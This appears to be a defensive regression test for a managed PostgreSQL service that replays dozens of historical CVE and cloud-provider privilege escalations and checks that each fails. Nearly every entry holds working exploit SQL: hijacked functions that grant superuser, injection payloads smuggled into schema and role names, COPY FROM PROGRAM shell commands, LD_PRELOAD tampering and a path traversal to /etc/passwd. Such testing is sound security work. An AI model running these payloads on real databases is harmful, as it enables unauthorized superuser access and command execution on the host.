-- Holes that PostgreSQL or a managed PostgreSQL had once: they must stay closed here.

-- attempt: CVE-2018-1058, a function that the platform would find first
-- as: master
CREATE FUNCTION public.upper(varchar) RETURNS text LANGUAGE plpgsql AS $$ BEGIN ALTER ROLE master SUPERUSER; RETURN $1; END $$;
CREATE FUNCTION public.array_to_string(anyarray, text, name) RETURNS text LANGUAGE plpgsql AS $$ BEGIN ALTER ROLE master SUPERUSER; RETURN 1; END $$;
-- as: rdsadmin
SELECT upper('x'::varchar);
SET search_path = public;
SELECT upper('x'::varchar);
-- sees: ^X$
-- sees: function (public\.)?upper\(.*\) may not run with superuser rights

-- attempt: CVE-2019-10208, a function by the type's name
-- as: master
CREATE FUNCTION pg_temp.text(int) RETURNS text LANGUAGE plpgsql AS $$ BEGIN ALTER ROLE master SUPERUSER; RETURN 1; END $$;
CREATE FUNCTION nested() RETURNS text LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT 1::text';
SELECT nested();
-- sees: ^1$

-- attempt: CVE-2020-14349, a search_path for a subscription's worker
-- since: 16
-- as: master
CREATE SCHEMA evil;
CREATE FUNCTION evil.format(text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN ALTER ROLE master SUPERUSER; RETURN 1; END $$;
ALTER ROLE master SET search_path = evil;
CREATE SUBSCRIPTION s CONNECTION 'host=127.0.0.1 port=1 user=x password=x' PUBLICATION p WITH (connect = false, run_as_owner = true);
ALTER SUBSCRIPTION s SET (slot_name = NONE);
DROP SUBSCRIPTION s;
-- not: server closed the connection

-- attempt: CVE-2020-14350, names that an extension's script calls unqualified
-- as: master
CREATE SCHEMA s;
CREATE FUNCTION s.regexp_matches(citext text, text) RETURNS SETOF text[] LANGUAGE plpgsql AS $$ BEGIN ALTER ROLE master SUPERUSER; END $$;
CREATE FUNCTION s.max(text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN ALTER ROLE master SUPERUSER; RETURN 1; END $$;
SET search_path = s;
CREATE EXTENSION citext VERSION '1.4';
CREATE EXTENSION hstore;
ALTER EXTENSION citext UPDATE;
SELECT 'made ' || count(*) FROM pg_extension WHERE extname IN ('citext', 'hstore');
-- sees: made 2

-- attempt: CVE-2020-25695, an index expression and a deferred trigger
-- as: master
CREATE TABLE public.exp (a int, b int);
CREATE TABLE public.log (a int);
CREATE FUNCTION public.f(int) RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT $1';
CREATE FUNCTION public.g(int) RETURNS int LANGUAGE sql SECURITY INVOKER AS 'INSERT INTO public.log VALUES (1); SELECT $1';
CREATE INDEX x ON public.exp (public.f(a));
CREATE OR REPLACE FUNCTION public.f(int) RETURNS int LANGUAGE sql VOLATILE AS 'SELECT public.g($1)';
CREATE FUNCTION public.tr() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM public.now_super(); RETURN NEW; END $$;
CREATE FUNCTION public.now_super() RETURNS int LANGUAGE sql AS 'ALTER ROLE master SUPERUSER; SELECT 1';
CREATE CONSTRAINT TRIGGER late AFTER INSERT ON public.log DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION public.tr();
INSERT INTO public.exp SELECT i, i FROM generate_series(1, 10) i;
-- as: rdsadmin
ANALYZE public.exp;
REINDEX TABLE public.exp;
-- not: ALTER ROLE$

-- attempt: CVE-2021-32027, arrays that are too large
-- as: plain
CREATE TEMP TABLE t (a int[]);
INSERT INTO t VALUES (NULL);
UPDATE t SET a[2147483647:2147483647] = ARRAY[1, 2, 3];
UPDATE t SET a[-2147483648:2147483647] = ARRAY[1];
-- not: server closed the connection

-- attempt: CVE-2021-32028, columns that ON CONFLICT does not write
-- as: master
CREATE TABLE public.t (i int PRIMARY KEY, j int) PARTITION BY LIST (i);
CREATE TABLE public.t1 (j int, i int NOT NULL);
ALTER TABLE public.t ATTACH PARTITION public.t1 FOR VALUES IN (1);
INSERT INTO public.t VALUES (1, 1);
INSERT INTO public.t VALUES (1, 1) ON CONFLICT (i) DO UPDATE SET j = 2 RETURNING *;
-- not: server closed the connection

-- attempt: CVE-2022-1552, maintenance of partitions and of toast
-- as: master
CREATE FUNCTION public.f(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN $1; END $$;
CREATE TABLE public.p (i int) PARTITION BY RANGE (i);
CREATE TABLE public.p1 PARTITION OF public.p FOR VALUES FROM (0) TO (10);
INSERT INTO public.p VALUES (1);
CREATE INDEX x ON public.p (public.f(i));
CREATE OR REPLACE FUNCTION public.f(int) RETURNS int LANGUAGE plpgsql VOLATILE AS $$ BEGIN SET SESSION AUTHORIZATION DEFAULT; RETURN $1; END $$;
-- as: rdsadmin
REINDEX INDEX public.x;
ANALYZE public.p;
CREATE INDEX y ON public.p (public.f(i));
-- sees: cannot set parameter "session_authorization" within security-(definer|restricted)

-- attempt: CVE-2022-2625, what a script would replace
-- as: master
CREATE EXTENSION pg_stat_statements VERSION '1.4';
CREATE FUNCTION public.bt_index_check(index regclass, heapallindexed boolean) RETURNS void LANGUAGE plpgsql AS $$ BEGIN ALTER ROLE master SUPERUSER; END $$;
CREATE EXTENSION amcheck VERSION '1.0';
ALTER EXTENSION amcheck UPDATE;
SELECT 'at ' || extversion FROM pg_extension WHERE extname = 'amcheck';
-- sees: already exists|is not a member of extension
-- sees: at 1.0

-- attempt: CVE-2023-2454, CREATE SCHEMA with somebody else's search_path
-- as: master
CREATE SCHEMA trusted;
CREATE FUNCTION trusted.f() RETURNS name LANGUAGE sql SECURITY DEFINER AS 'SELECT current_user';
CREATE SCHEMA AUTHORIZATION rdsadmin CREATE VIEW v AS SELECT 1;
CREATE SCHEMA pg_mine CREATE TABLE pg_proc (i int);
SET search_path = pg_temp;
CREATE SCHEMA x CREATE TABLE t (i int DEFAULT trusted.f()::text::int);
-- sees: must be (member of role|able to SET ROLE) "rdsadmin"
-- sees: unacceptable schema name

-- attempt: CVE-2023-2455, a policy that a plan forgets
-- as: master
CREATE TABLE public.t (who name);
INSERT INTO public.t VALUES ('master'), ('plain');
ALTER TABLE public.t ENABLE ROW LEVEL SECURITY;
CREATE POLICY p ON public.t USING (who = current_user);
GRANT SELECT ON public.t TO plain;
CREATE FUNCTION public.seen() RETURNS SETOF name LANGUAGE sql SECURITY DEFINER STABLE AS 'SELECT who FROM public.t';
ALTER TABLE public.t FORCE ROW LEVEL SECURITY;
-- as: plain
SELECT 'sees ' || string_agg(who, ',') FROM public.t;
SELECT 'definer sees ' || string_agg(s, ',') FROM public.seen() s;
-- sees: sees plain$
-- sees: definer sees master$

-- attempt: CVE-2023-39417, a schema's name that quotes itself
-- as: master
CREATE SCHEMA "a""; ALTER ROLE master SUPERUSER; --";
CREATE SCHEMA "$$; ALTER ROLE master SUPERUSER; $$";
CREATE SCHEMA "'; ALTER ROLE master SUPERUSER; '";
CREATE EXTENSION pg_stat_statements SCHEMA "a""; ALTER ROLE master SUPERUSER; --";
CREATE EXTENSION earthdistance SCHEMA "$$; ALTER ROLE master SUPERUSER; $$" CASCADE;
CREATE EXTENSION tablefunc SCHEMA "'; ALTER ROLE master SUPERUSER; '";
-- not: permission denied to give a role

-- attempt: the same with the owner's name
-- as: master
CREATE ROLE "x""; ALTER ROLE master SUPERUSER; --" LOGIN;
GRANT CREATE ON DATABASE target TO "x""; ALTER ROLE master SUPERUSER; --";
GRANT "x""; ALTER ROLE master SUPERUSER; --" TO master;
SET ROLE "x""; ALTER ROLE master SUPERUSER; --";
CREATE SCHEMA s;
CREATE EXTENSION hstore SCHEMA s;
CREATE EXTENSION citext SCHEMA s;
RESET ROLE;
DROP OWNED BY "x""; ALTER ROLE master SUPERUSER; --" CASCADE;
-- not: permission denied to give a role

-- attempt: CVE-2023-5869, an array of a size that wraps around
-- as: plain
CREATE TEMP TABLE t (a int[]);
INSERT INTO t (a[2147483645:2147483647]) VALUES ('{1,2,3}');
UPDATE t SET a[2147483647:2147483647] = '{1}';
-- not: server closed the connection

-- attempt: CVE-2023-5870, to end the workers of the server
-- as: master
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE backend_type IN ('logical replication launcher', 'autovacuum launcher', 'checkpointer', 'background writer');
-- sees: must be a superuser to terminate superuser process|permission denied to terminate process|is not a PostgreSQL (server|backend) process

-- attempt: CVE-2024-0985, a concurrent refresh with functions of the user's
-- as: master
CREATE FUNCTION public.f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN BEGIN ALTER ROLE master SUPERUSER; EXCEPTION WHEN OTHERS THEN NULL; END; RETURN 1; END $$;
CREATE TABLE public.t (i int);
INSERT INTO public.t VALUES (1);
CREATE MATERIALIZED VIEW public.m AS SELECT i, public.f() AS f FROM public.t;
CREATE FUNCTION public.eq(int, int) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'as %', current_user; END $$;
CREATE OPERATOR public.= (LEFTARG = int, RIGHTARG = int, FUNCTION = public.eq);
CREATE UNIQUE INDEX ON public.m (i);
CREATE RULE r AS ON INSERT TO public.m DO ALSO SELECT public.f();
-- as: rdsadmin
SET search_path = public, pg_catalog;
REFRESH MATERIALIZED VIEW CONCURRENTLY public.m;
-- not: as rdsadmin

-- attempt: CVE-2024-7348, a view in a sequence's place while it is dumped
-- as: master
CREATE FUNCTION public.f() RETURNS bigint LANGUAGE plpgsql AS $$ BEGIN ALTER ROLE master SUPERUSER; RETURN 1; END $$;
CREATE FOREIGN DATA WRAPPER w;
CREATE VIEW public.s AS SELECT public.f() AS last_value;
-- as: rdsadmin
\! pg_dump -h '{socket}' -p {port} -U rdsadmin --no-sync -d 'dbname=target application_name=howdah-escape-suite' > /dev/null && echo dumped
-- sees: ^dumped$

-- attempt: CVE-2024-10976, a policy below a role that changes
-- as: master
CREATE TABLE public.t (who name);
INSERT INTO public.t VALUES ('master'), ('other');
ALTER TABLE public.t ENABLE ROW LEVEL SECURITY;
CREATE POLICY p ON public.t USING (who = current_user);
CREATE ROLE other;
GRANT SELECT ON public.t TO other;
GRANT other TO master;
ALTER TABLE public.t FORCE ROW LEVEL SECURITY;
PREPARE q AS WITH x AS (SELECT who FROM public.t) SELECT 'sees ' || string_agg(who, ',') FROM x;
EXECUTE q;
SET ROLE other;
EXECUTE q;
-- sees: sees master$
-- sees: sees other$

-- attempt: CVE-2024-10978, a role that SET ROLE leaves behind
-- as: master
CREATE ROLE other;
GRANT other TO master;
CREATE FUNCTION public.f() RETURNS name LANGUAGE plpgsql SET role = other AS $$ BEGIN RETURN current_user; END $$;
SELECT 'ran as ' || public.f();
BEGIN;
SET LOCAL ROLE other;
SET SESSION AUTHORIZATION DEFAULT;
ROLLBACK;
SET SESSION AUTHORIZATION rdsadmin;
SELECT 'ends as ' || current_user;
DROP OWNED BY other;
-- sees: ends as master

-- attempt: CVE-2024-10979, the environment of the server's process
-- as: master
CREATE EXTENSION plperl;
CREATE FUNCTION public.p() RETURNS text LANGUAGE plperl AS '$ENV{PATH} = "{dir}"; $ENV{LD_PRELOAD} = "/tmp/x.so"; return $ENV{LD_PRELOAD};';
SELECT public.p();
COPY (SELECT 1) TO PROGRAM 'true';
-- sees: pg_execute_server_program

-- attempt: CVE-2025-1094, text that is no text in its encoding
-- as: plain
SELECT quote_literal(convert_from('\xc0', 'UTF8'));
SELECT quote_ident(E'\xc0\x27; ALTER ROLE plain SUPERUSER; --');
SET client_encoding = 'BIG5';
-- sees: invalid byte sequence for encoding
-- not: ALTER ROLE$

-- attempt: CVE-2025-8713, statistics of what one may not read
-- as: master
CREATE TABLE public.secret (i int);
INSERT INTO public.secret SELECT 4711 FROM generate_series(1, 100);
ANALYZE public.secret;
ALTER TABLE public.secret ENABLE ROW LEVEL SECURITY;
GRANT SELECT ON public.secret TO plain;
GRANT CREATE ON SCHEMA public TO plain;
CREATE VIEW public.v WITH (security_barrier) AS SELECT i FROM public.secret;
-- as: plain
CREATE FUNCTION public.leak(int, int) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE 'leaked %', $1; RETURN true; END $$;
CREATE OPERATOR public.<<< (LEFTARG = int, RIGHTARG = int, FUNCTION = public.leak, RESTRICT = scalarltsel);
EXPLAIN SELECT * FROM public.secret WHERE i <<< 1;
SELECT count(*) FROM public.secret WHERE i <<< 1;
-- not: leaked

-- attempt: CVE-2025-8714, a dump that runs what the server says
-- as: master
CREATE TABLE public.t (i int);
COMMENT ON TABLE public.t IS E'x\n\\! touch {dir}/escaped';
CREATE TYPE public.e AS ENUM (E'x\n\\! touch {dir}');
-- as: rdsadmin
\! pg_dump -h '{socket}' -p {port} -U rdsadmin --no-sync -d 'dbname=target application_name=howdah-escape-suite' > /dev/null && echo dumped
-- sees: ^dumped$

-- attempt: CVE-2025-12817, statistics in the schema of another
-- as: master
CREATE SCHEMA theirs;
CREATE TABLE public.t (i int, j int);
-- as: plain
CREATE TEMP TABLE t (i int, j int);
CREATE STATISTICS theirs.s ON i, j FROM t;
-- sees: permission denied for schema theirs

-- attempt: MERGE past a policy
-- as: master
CREATE TABLE public.t (who name, v int);
INSERT INTO public.t VALUES ('master', 1), ('plain', 1);
ALTER TABLE public.t ENABLE ROW LEVEL SECURITY;
CREATE POLICY p ON public.t USING (who = current_user);
GRANT ALL ON public.t TO plain;
-- as: plain
MERGE INTO public.t USING (VALUES ('master'::name)) s (who) ON t.who = s.who WHEN MATCHED THEN UPDATE SET v = 2 WHEN NOT MATCHED THEN INSERT VALUES ('master', 3);
UPDATE public.t SET who = 'master';
-- as: master
SELECT 'kept ' || v FROM public.t WHERE who = 'master';
-- sees: new row violates row-level security policy
-- sees: kept 1

-- attempt: Azure 2021, a certificate's name that is a pattern
-- as: master
CREATE ROLE "rdsadmin.x" LOGIN PASSWORD 'x';
CREATE ROLE "agent:rdsmon" LOGIN PASSWORD 'x';
CREATE ROLE "+rds_superuser" LOGIN PASSWORD 'x';
CREATE ROLE "all" LOGIN;
CREATE ROLE "replication" LOGIN;
CREATE DATABASE "all";
CREATE DATABASE "replication";
-- not: server closed the connection

-- attempt: Google 2022, an index of a table that the platform was given
-- as: master
CREATE TABLE public.temp_table (data text);
CREATE TABLE public.shell_commands (data text);
INSERT INTO public.temp_table VALUES ('x');
CREATE FUNCTION public.sf(text) RETURNS text LANGUAGE sql IMMUTABLE SECURITY INVOKER AS $$ SELECT 'x'::text $$;
CREATE INDEX i ON public.temp_table (public.sf(data));
ALTER TABLE public.temp_table OWNER TO rdsadmin;
ALTER TABLE public.temp_table OWNER TO rds_superuser;
CREATE OR REPLACE FUNCTION public.sf(text) RETURNS text LANGUAGE plpgsql VOLATILE SECURITY INVOKER AS $$ BEGIN COPY public.shell_commands (data) FROM PROGRAM 'touch {dir}/escaped'; RETURN 'x'; END $$;
ANALYZE public.temp_table;
-- sees: must be (member of role|able to SET ROLE) "rdsadmin"
-- sees: pg_execute_server_program

-- attempt: AWS 2022, a validator taken off, and a path that is none
-- as: master
CREATE EXTENSION log_fdw;
ALTER FOREIGN DATA WRAPPER log_fdw NO VALIDATOR;
ALTER FOREIGN DATA WRAPPER log_fdw VALIDATOR postgresql_fdw_validator;
CREATE SERVER log FOREIGN DATA WRAPPER log_fdw OPTIONS (filename './../../etc/passwd');
CREATE SERVER log FOREIGN DATA WRAPPER log_fdw;
CREATE FOREIGN TABLE t (log_entry text) SERVER log OPTIONS (filename './../../etc/passwd');
TABLE t;
-- sees: permission denied to alter foreign-data wrapper
-- sees: invalid option "filename"
-- sees: no log file has the name "\./\.\./\.\./etc/passwd"
-- not: root:

-- attempt: Aiven 2022, an extension in a schema with functions of the user's
-- as: master
CREATE SCHEMA s;
CREATE FUNCTION s.array_length(text[], int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN ALTER ROLE master SUPERUSER; RETURN 1; END $$;
CREATE FUNCTION s.quote_ident(name) RETURNS text LANGUAGE plpgsql AS $$ BEGIN ALTER ROLE master SUPERUSER; RETURN 1; END $$;
SET search_path = s, public;
CREATE EXTENSION pg_trgm;
CREATE EXTENSION dblink;
CREATE EXTENSION btree_gist;
SELECT 'made ' || count(*) FROM pg_extension WHERE extname IN ('pg_trgm', 'dblink', 'btree_gist');
-- sees: made 3

-- attempt: IBM 2022, a statement in the name that a helper of the platform is given
-- as: master
CREATE ROLE "x'; ALTER ROLE master SUPERUSER; --";
GRANT rds_iam TO "x'; ALTER ROLE master SUPERUSER; --";
REVOKE rds_iam FROM "x'; ALTER ROLE master SUPERUSER; --";
CREATE EXTENSION pg_stat_statements SCHEMA public;
-- not: permission denied to give a role

-- attempt: Supabase 2022, an event trigger that follows a superuser
-- as: master
CREATE FUNCTION become_super() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'ALTER ROLE master SUPERUSER'; END $$;
CREATE EVENT TRIGGER bad ON ddl_command_end EXECUTE FUNCTION become_super();
GRANT rds_password TO plain;
REVOKE rds_password FROM plain;
-- as: rdsadmin
CREATE TEMP TABLE t (i int);
SELECT 'the platform works';
-- sees: the platform works

-- attempt: DigitalOcean and Heroku, the database's owner and its template
-- in: template1
-- as: master
CREATE FUNCTION public.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$ BEGIN ALTER ROLE master SUPERUSER; RETURN 1; END $$;
-- in: target
-- as: master
CREATE DATABASE made;
-- in: made
-- as: rdsadmin
SELECT lower('X'::varchar);
SELECT public.lower('X'::varchar);
-- in: template1
-- as: master
DROP FUNCTION public.lower(varchar);
-- sees: ^x$
-- sees: may not run with superuser rights
